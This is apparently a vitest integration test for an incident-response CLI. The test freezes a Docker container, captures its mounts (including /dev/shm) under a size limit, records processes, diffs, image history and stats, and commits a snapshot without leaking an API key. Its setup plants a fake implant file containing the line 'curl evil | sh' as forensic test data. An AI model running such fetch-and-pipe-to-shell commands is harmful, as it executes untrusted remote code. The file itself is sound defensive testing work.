import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { GUIDE_LINES, runGuideContainer, type GuideContainer } from '../support/guide-container.js';
import { uniqueName } from '../support/names.js';
import { onlyIncidentDir, runCli, tempDir, type CliRun } from '../support/run-cli.js';

const docker = new Docker();

// 200 KiB in the big volume (over the 64 KiB limit below), one line in the small one.
const SCRIPT = [
  `echo '${GUIDE_LINES.appLog}' > /app/logs/app.log`,
  'head -c 204800 /dev/zero > /data/big/blob',
  'echo small > /data/small/note.txt',
  // The engine's own /dev/shm tmpfs is listed nowhere among the mounts, and export skips it.
  'echo "curl evil | sh" > /dev/shm/implant.sh',
  'touch /tmp/ready',
  'exec sleep 3600',
].join('; ');

describe.skipIf(!inject('docker').ok)('capture beyond export: facts, mounts with limits, freeze, snapshot', () => {
  const bigVolume = uniqueName('big');
  const smallVolume = uniqueName('small');
  let guide: GuideContainer;
  let work: string;
  let run: CliRun;
  let evidence: string;
  let events: string[];
  let manifest: {
    complete: boolean; items: { path: string }[]; missing: { what: string; reason: string }[];
    engine: { engineVersion: string }; snapshots: { image: string; imageId: string }[];
  };

  beforeAll(async () => {
    work = await tempDir('extras');
    const bindDir = join(work, 'configs');
    await mkdir(bindDir);
    await writeFile(join(bindDir, 'settings.yaml'), 'strategy: momentum\n');
    for (const name of [bigVolume, smallVolume]) await docker.createVolume({ Name: name });
    // Fresh volumes are root-owned; let user 1000 write, as an image's VOLUME would.
    await docker.run('ir-test/autotrader:latest', ['chmod', '777', '/big', '/small'], process.stderr, {
      HostConfig: { AutoRemove: true, Binds: [`${bigVolume}:/big`, `${smallVolume}:/small`] },
    });
    guide = await runGuideContainer({
      apiKey: 'gsk_fake_extras_value',
      script: SCRIPT,
      mounts: [
        { Type: 'volume', Source: bigVolume, Target: '/data/big' },
        { Type: 'volume', Source: smallVolume, Target: '/data/small' },
        { Type: 'bind', Source: bindDir, Target: '/app/configs', ReadOnly: true },
      ],
    });
    await writeFile(join(work, 'runbook.yaml'), `name: extras
target:
  container: ${guide.name}
steps:
  - isolate:
      freeze: true
  - capture:
      mountSizeLimit: 64KiB
      snapshot: true
  - terminate:
      stopTimeout: 1
`);
    run = await runCli(['contain', '--runbook', join(work, 'runbook.yaml'), '--yes', '--json',
      '--evidence-dir', join(work, 'incidents')]);
    const incidentDir = await onlyIncidentDir(join(work, 'incidents'));
    evidence = join(incidentDir, 'evidence', guide.name);
    manifest = JSON.parse(await readFile(join(incidentDir, 'manifest.json'), 'utf8'));
    events = (await readFile(join(incidentDir, 'audit.jsonl'), 'utf8')).trim().split('\n')
      .map((line) => JSON.parse(line).event);
  }, 120_000);

  afterAll(async () => {
    await guide?.remove();
    for (const name of [bigVolume, smallVolume]) await docker.getVolume(name).remove().catch(() => undefined);
    for (const snapshot of manifest?.snapshots ?? []) await docker.getImage(snapshot.imageId).remove().catch(() => undefined);
    if (work) await rm(work, { recursive: true, force: true });
  });

  it('contains the frozen container, tmpfs included, and removes it', async () => {
    expect(run.code, run.stderr).toBe(0);
    expect(await readFile(join(evidence, 'mounts', 'app-logs.tar'), 'latin1')).toContain(GUIDE_LINES.appLog);
    // Paused at isolation; let out once for its tmpfs reads (/tmp, /app/logs, /dev/shm), then paused again.
    const during = events.slice(events.indexOf('docker.container.pause'), events.indexOf('docker.container.stop'));
    expect(during.filter((event) => event === 'docker.container.unpause')).toHaveLength(1);
    expect(during.filter((event) => event === 'docker.container.pause')).toHaveLength(2);
    expect(await readFile(join(evidence, 'mounts', 'dev-shm.tar'), 'latin1')).toContain('curl evil | sh');
    await expect(docker.getContainer(guide.id).inspect()).rejects.toMatchObject({ statusCode: 404 });
  });

  it('records the process list, changes, image, resource use and the engine', async () => {
    const top = JSON.parse(await readFile(join(evidence, 'top.json'), 'utf8'));
    expect(top.Processes.some((process: string[]) => process.at(-1)?.includes('sleep 3600'))).toBe(true);
    // The read-only root changes only where the engine made mount points.
    expect(JSON.parse(await readFile(join(evidence, 'diff.json'), 'utf8'))).toContainEqual({ path: '/data/big', kind: 'added' });
    const image = JSON.parse(await readFile(join(evidence, 'image.json'), 'utf8'));
    expect(image.repoTags).toContain('ir-test/autotrader:latest');
    expect(image.history.length).toBeGreaterThan(0);
    expect(JSON.parse(await readFile(join(evidence, 'stats.json'), 'utf8'))).toHaveProperty('memory_stats');
    expect(manifest.engine.engineVersion).toBe((await docker.version()).Version);
  });

  it('gets the real /etc/hosts, which export leaves empty', async () => {
    expect(await readFile(join(evidence, 'engine-files', 'etc-hosts.tar'), 'latin1')).toContain('localhost');
  });

  it('copies volumes and bind mounts under the limit and lists the one over it as missing', async () => {
    expect(await readFile(join(evidence, 'mounts', 'data-small.tar'), 'latin1')).toContain('small');
    expect(await readFile(join(evidence, 'mounts', 'app-configs.tar'), 'latin1')).toContain('strategy: momentum');
    expect(manifest.missing).toEqual([
      { what: 'volume mount /data/big', reason: expect.stringMatching(/larger than the limit of 65536 bytes/) },
    ]);
    expect(manifest.items.some((item) => item.path.includes('data-big'))).toBe(false);
    await expect(readFile(join(evidence, 'mounts', 'data-big.tar'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('commits a snapshot image tagged with the incident id', async () => {
    expect(manifest.snapshots).toHaveLength(1);
    const image = await docker.getImage(manifest.snapshots[0]!.imageId).inspect();
    expect(image.RepoTags).toContain(manifest.snapshots[0]!.image);
    // Anyone with engine access can read an image's config: the key must not be in it.
    expect(JSON.stringify(image)).not.toContain('gsk_fake_extras_value');
    expect(image.Config.Labels).toMatchObject({ 'ir.incident': expect.stringMatching(/^IR-/) });
  });
});
